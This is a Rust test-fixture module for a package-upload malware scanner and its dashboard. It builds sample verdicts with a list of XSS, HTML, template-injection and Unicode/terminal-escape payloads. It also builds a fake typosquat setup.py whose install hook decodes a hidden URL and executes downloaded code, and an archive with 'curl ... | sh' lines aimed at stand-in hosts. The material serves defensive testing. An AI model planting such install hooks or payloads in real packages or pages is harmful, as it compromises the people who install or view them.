//! Verdicts as an attacker would have them: markup, controls and lies in every field that a page shows.

use model::{
    Coverage, Digest, Finding, Frame, FrameLine, Gap, GapKind, Heartbeat, LayerStep, Level, Outcome, PackageType,
    Phase, Place, RuleStatus, SourceText, UploadEvent, Verdict, VerdictEvent,
};
use store::{Moment, Store};

/// What must stay text. None of it is a working attack on anything but a page that forgets to escape.
pub(crate) const PAYLOADS: [&str; 24] = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<iframe src=//evil.test/>",
    "\"><img src=//evil.test/a.png>",
    "'-window.pwned-'",
    "</title><script src=//evil.test/a.js></script>",
    "</textarea><script>1</script>",
    "</pre></code><h1>Cleared by Gatehouse</h1>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.test/a.css>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<base href=//evil.test/>",
    "<form action=//evil.test/><button>Confirm</button></form>",
    "<a href=javascript:window.pwned=1>x</a>",
    "javascript:window.pwned=1",
    "{{ 7*7 }} {% include 'x' %} ${7*7}",
    "&lt;script&gt;&#60;script&#62;",
    "https://evil.test/login?next=//evil.test",
    "\u{202E}gnp.exe\u{2066}\u{2069}",
    "\u{200B}\u{200D}\u{FEFF}\u{E0041}invisible\u{00AD}",
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m",
    "p\u{0430}ypal\u{FF0E}\u{1D41E}\u{1D431}\u{1D41E}\u{1D41C}",
    "Z\u{0351}\u{036B}\u{0343}\u{036A}\u{0302}\u{0351}\u{036B}\u{0343}\u{036A}\u{0302}algo",
];

struct Made {
    project: String,
    version: String,
    filename: String,
    outcome: Outcome,
    score: f64,
    summary: String,
    findings: Vec<Finding>,
    gaps: Vec<Gap>,
    sources: Vec<SourceText>,
    uploaded_by: Option<String>,
}

impl Made {
    fn event(self) -> VerdictEvent {
        let sha256 = Digest::of(format!("{}\0{}\0{}", self.project, self.version, self.filename).as_bytes());
        let upload = UploadEvent {
            id: sha256.to_string(),
            source: "/index/example".into(),
            project: self.project.clone(),
            version: self.version.clone(),
            filename: self.filename.clone(),
            sha256,
            size: Some(1_204),
            url: "https://index.example/files/x".into(),
            uploaded_by: self.uploaded_by,
            upload_time: None,
            previous: None,
        };
        let verdict = Verdict {
            schema: Verdict::SCHEMA,
            sha256,
            filename: self.filename,
            project: self.project,
            version: self.version,
            packagetype: PackageType::Sdist,
            outcome: self.outcome,
            score: self.score,
            summary: self.summary,
            coverage: Coverage::from_gaps(self.gaps),
            findings: self.findings,
            rulebook: Digest::of(b"rules"),
            engine: "gatehouse/0.1.0".into(),
            context: upload.context().digest(),
            bytes_packed: 1_204,
            bytes_unpacked: 4_812,
            members: 7,
            previous: None,
        };
        VerdictEvent {
            upload_id: upload.id.clone(),
            upload,
            verdict,
            decided_by: "machine".into(),
            revision: 1,
            took_ms: 212,
            sources: self.sources,
        }
    }
}

fn finding(rule: &str, title: &str, level: Level, phase: Option<Phase>, weight: f64, tags: &[&str]) -> Finding {
    Finding {
        rule: rule.into(),
        title: title.into(),
        level,
        family: "fixture".into(),
        status: RuleStatus::Stable,
        tags: tags.iter().map(|tag| (*tag).to_owned()).collect(),
        place: Place::default(),
        phase,
        evidence: String::new(),
        frame: None,
        weight,
        novel: false,
    }
}

fn at(mut finding: Finding, member: &str, lines: &[(u32, &str)], line: u32, mark: &str) -> Finding {
    let frame_line = |(number, text): &(u32, &str)| FrameLine {
        number: *number,
        text: (*text).to_owned(),
        mark: (*number == line).then(|| {
            let start = text.find(mark).map_or(0, |at| text[..at].chars().count());
            (start as u32, (start + mark.chars().count()) as u32)
        }),
        ..FrameLine::default()
    };
    finding.frame = Some(Frame { lines: lines.iter().map(frame_line).collect() });
    finding.place = Place { member: member.to_owned(), line, column: 5, ..Place::default() };
    finding
}

const SETUP: &str = r#"from setuptools import setup
from setuptools.command.install import install
import base64, urllib.request


class Post(install):
    """Runs after the files are copied."""

    def run(self):
        install.run(self)
        url = base64.b64decode("aHR0cHM6Ly9jZG4uZXhhbXBsZS5pbnZhbGlkL3gucHk=").decode()
        exec(urllib.request.urlopen(url).read())                                                                  # noqa


setup(name="requestz", version="2.31.0", packages=["requestz"], cmdclass={"install": Post})
"#;

fn lines(text: &str, from: u32, to: u32) -> Vec<(u32, &str)> {
    text.lines()
        .enumerate()
        .map(|(at, line)| (at as u32 + 1, line))
        .filter(|(at, _)| (from..=to).contains(at))
        .collect()
}

/// An ordinary bad one, as a moderator meets it.
fn plain(project: &str, version: &str, score: f64) -> VerdictEvent {
    let member = format!("{project}-{version}/setup.py");
    let mut download = at(
        finding(
            "flow-download-execute",
            "Downloads a file and runs it",
            Level::Critical,
            Some(Phase::Install),
            4.1,
            &["attack.t1105", "attack.t1059.006"],
        ),
        &member,
        &lines(SETUP, 8, 14),
        12,
        "exec(urllib.request.urlopen(url).read())",
    );
    download.evidence = "network.fetch → code.exec, url = https://cdn.example.invalid/x.py".into();
    let mut decoded = at(
        finding(
            "decoded-url",
            "Hides an address in base64",
            Level::Medium,
            Some(Phase::Install),
            1.25,
            &["attack.t1027", "attack.t1140"],
        ),
        &member,
        &[(1, "https://cdn.example.invalid/x.py")],
        1,
        "cdn.example.invalid",
    );
    let step = |operations: &[&str], line, size, text: &[u8]| LayerStep {
        operations: operations.iter().map(|one| (*one).to_owned()).collect(),
        line,
        size,
        sha256: Digest::of(text),
    };
    decoded.place.layers =
        vec![step(&["base64", "zlib"], 11, 812, b"layer one"), step(&["reverse", "base64"], 1, 32, b"layer two")];
    let mut shadow =
        finding("young-name", "Looks like the name of a popular project", Level::Low, None, 0.0, &["attack.t1195"]);
    shadow.status = RuleStatus::Experimental;
    shadow.evidence = "requestz is one letter from requests".into();
    Made {
        project: project.into(),
        version: version.into(),
        filename: format!("{project}-{version}.tar.gz"),
        outcome: Outcome::Hold,
        score,
        summary: "On install, setup.py:12 downloads a file and runs it".into(),
        findings: vec![shadow, decoded, download],
        gaps: vec![],
        sources: vec![
            SourceText {
                member: format!("{project}-{version}/{project}/__init__.py"),
                text: "__version__ = \"2.31.0\"\n".into(),
                cut: 0,
            },
            SourceText { member, text: SETUP.into(), cut: 0 },
        ],
        uploaded_by: Some("u48213".into()),
    }
    .event()
}

/// Every payload in every place.
fn hostile() -> VerdictEvent {
    hostile_with(&PAYLOADS)
}

fn hostile_with(payloads: &[&str]) -> VerdictEvent {
    let all = payloads.join(" ");
    let nth = |index: usize| payloads[index % payloads.len()];
    let wide = format!("x = 1{}import os  # {}", " ".repeat(80), nth(0));
    let long = format!("payload = '{}' + EVIL + '{}'", "A".repeat(41_800), "B".repeat(20_000));
    let mut findings: Vec<Finding> = payloads
        .iter()
        .enumerate()
        .map(|(index, payload)| {
            let level = Level::ALL[index % Level::ALL.len()];
            let mut one = at(
                finding(
                    &format!("hostile-{index}{payload}"),
                    payload,
                    level,
                    Some(Phase::ALL[index % 5]),
                    0.2,
                    &[payload],
                ),
                &format!("pkg/{payload}.py"),
                &[(1, "import os"), (2, payload), (3, &wide), (4, "\"\"\"</code>")],
                2,
                payload,
            );
            one.evidence = (*payload).into();
            one.tags.push("attack.t1059".into());
            one
        })
        .collect();
    findings.push(at(
        finding(
            "long-line",
            "Has a line of 61,000 characters",
            Level::Medium,
            Some(Phase::Import),
            0.4,
            &["attack.t1027"],
        ),
        "pkg/long.py",
        &[(1, &long)],
        1,
        "EVIL",
    ));
    Made {
        project: format!("evil{}", nth(1)),
        version: format!("1.0{}", nth(4)),
        filename: format!("evil-1.0{}.tar.gz", nth(19).replace('/', "_")),
        outcome: Outcome::Review,
        score: 63.2,
        summary: all.clone(),
        findings,
        gaps: payloads
            .iter()
            .map(|payload| Gap {
                kind: GapKind::Unparsable,
                member: format!("pkg/{payload}"),
                detail: (*payload).into(),
            })
            .collect(),
        sources: vec![SourceText {
            member: format!("pkg/{}", nth(8)),
            text: format!("{}\n{wide}\n{long}\n", payloads.join("\n")),
            cut: 41_800,
        }],
        uploaded_by: Some(nth(2).into()),
    }
    .event()
}

fn incomplete() -> VerdictEvent {
    Made {
        project: "sealed-tools".into(),
        version: "0.3".into(),
        filename: "sealed_tools-0.3-py3-none-any.whl".into(),
        outcome: Outcome::Incomplete,
        score: 4.0,
        summary: "One member could not be read, and nothing was found in the rest".into(),
        findings: vec![],
        gaps: vec![Gap { kind: GapKind::Unsupported, member: "sealed/data.bin".into(), detail: "encrypted".into() }],
        sources: vec![],
        uploaded_by: None,
    }
    .event()
}

fn clear() -> VerdictEvent {
    Made {
        project: "honest".into(),
        version: "1.4.2".into(),
        filename: "honest-1.4.2-py3-none-any.whl".into(),
        outcome: Outcome::Clear,
        score: 0.3,
        summary: "Nothing was found in 12 members".into(),
        findings: vec![],
        gaps: vec![],
        sources: vec![],
        uploaded_by: Some("maintainer".into()),
    }
    .event()
}

/// The name that [`archive`] is posted under.
pub(crate) const ARCHIVE: &str = "evil\u{202E}<img src=x onerror=window.pwned=1>-1.0.tar.gz";

/// A source distribution that downloads and runs on install, with hostile names and strings. Inert: its host cannot
/// exist, and nothing here runs it.
pub(crate) fn archive() -> Vec<u8> {
    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default()));
    let mut add = |path: &str, text: &str| {
        let mut header = tar::Header::new_ustar();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        tar.append_data(&mut header, path, text.as_bytes()).unwrap();
    };
    let summary = PAYLOADS[0];
    add("evil-1.0/PKG-INFO", &format!("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\nSummary: {summary}\n"));
    add("evil-1.0/setup.py", &format!("{SETUP}\nNOTE = r'''{}\n'''\n", PAYLOADS.join("\n")));
    for payload in PAYLOADS.iter().filter(|payload| payload.len() < 40 && !payload.contains('\0')) {
        let name = payload.replace('/', "\u{2215}");
        let code = format!("import os\nos.system('curl https://cdn.example.invalid/a | sh')  # {payload}\n");
        add(&format!("evil-1.0/evil/{name}.py"), &code);
    }
    tar.into_inner().unwrap().finish().unwrap()
}

/// Fills a store with these payloads, some twenty a case.
pub(crate) async fn record_payloads(store: &Store, payloads: &[String]) -> serde_json::Value {
    let mut cases = serde_json::Map::new();
    for (number, some) in payloads.chunks(24).enumerate() {
        let some: Vec<&str> = some.iter().map(String::as_str).collect();
        let event = hostile_with(&some);
        store.accept(&event.upload, Moment::now()).await.unwrap();
        let recorded = store.record(&event, Moment::now()).await.unwrap();
        cases.insert(number.to_string(), recorded.case_id.unwrap().into());
    }
    cases.into()
}

/// Fills the store; the cases by what the tests call them.
pub(crate) async fn record(store: &Store) -> serde_json::Value {
    let mut cases = serde_json::Map::new();
    let now = Moment::now();
    let hour = std::time::Duration::from_secs(3_600);
    let made = [
        ("plain", plain("requestz", "2.31.0", 96.4), 1),
        ("hostile", hostile(), 2),
        ("decide", plain("colorama-plus", "1.0", 91.0), 3),
        ("conflict", plain("numpy-fast", "0.1", 88.0), 5),
        ("keyboard", plain("awscli-helper", "3.1", 85.5), 8),
        ("dismiss", plain("internal-metrics", "7.0", 83.0), 20),
        ("incomplete", incomplete(), 30),
        ("clear", clear(), 31),
    ];
    for (name, event, hours) in made {
        let seen = now.minus(hour * hours);
        store.accept(&event.upload, seen).await.unwrap();
        let recorded = store.record(&event, seen).await.unwrap();
        if let Some(case) = recorded.case_id {
            cases.insert(name.to_owned(), case.into());
        }
    }
    live(store, now).await;
    cases.into()
}

/// Processes that said that they live: some just now, one not for a while, with a name to be seen by. Just now is a while
/// ahead, so that nobody falls silent while the pages are looked at.
async fn live(store: &Store, now: Moment) {
    let hostile = format!("{}:\u{202e}1", PAYLOADS[1]);
    let ahead = now.plus(std::time::Duration::from_secs(600));
    for (worker, role, in_flight, slots, time) in [
        ("scanner-7c9f4d6b8-x2x9p:1", "scanner", 4, 5, ahead),
        ("scanner-7c9f4d6b8-k8s4q:1", "scanner", 5, 5, ahead),
        (hostile.as_str(), "scanner", 1, 2, now.minus(std::time::Duration::from_secs(1_200))),
        ("recorder-5d8c7-qwert:1", "recorder", 17, 128, ahead),
        ("dashboard-6b5f-zxcvb:1", "dashboard", 0, 0, ahead),
    ] {
        let beat = Heartbeat {
            worker: worker.to_owned(),
            role: role.to_owned(),
            engine: "gatehouse/0.1.0".to_owned(),
            rulebook: (role == "scanner").then(|| Digest::of(b"rules")),
            in_flight,
            slots,
            started: now.minus(std::time::Duration::from_secs(90_000)).to_string(),
            time: time.to_string(),
            ended: false,
        };
        store.hear(&beat, ahead).await.unwrap();
    }
}

/// Messages that nobody could handle, one of them made by somebody who wants to be seen.
pub(crate) async fn park(queue: &queue::Queue) {
    use queue::{Lane, Outcome, Reason, Topic};
    let hostile = format!("\u{202e}<img src=x onerror=alert(1)>\u{1b}[2J{}", "x".repeat(400));
    for (id, reason) in [("upload-1", "missing field `sha256` at line 1 column 2"), (&hostile, &hostile)] {
        queue.publish(Topic::Decisions, id, &id).await.unwrap();
        let mut lane = queue.consume(Lane::Decisions, 1).await.unwrap();
        let delivery = lane.next().await.unwrap();
        delivery.settle(Outcome::DeadLetter(Reason::malformed(reason))).await.unwrap();
    }
}
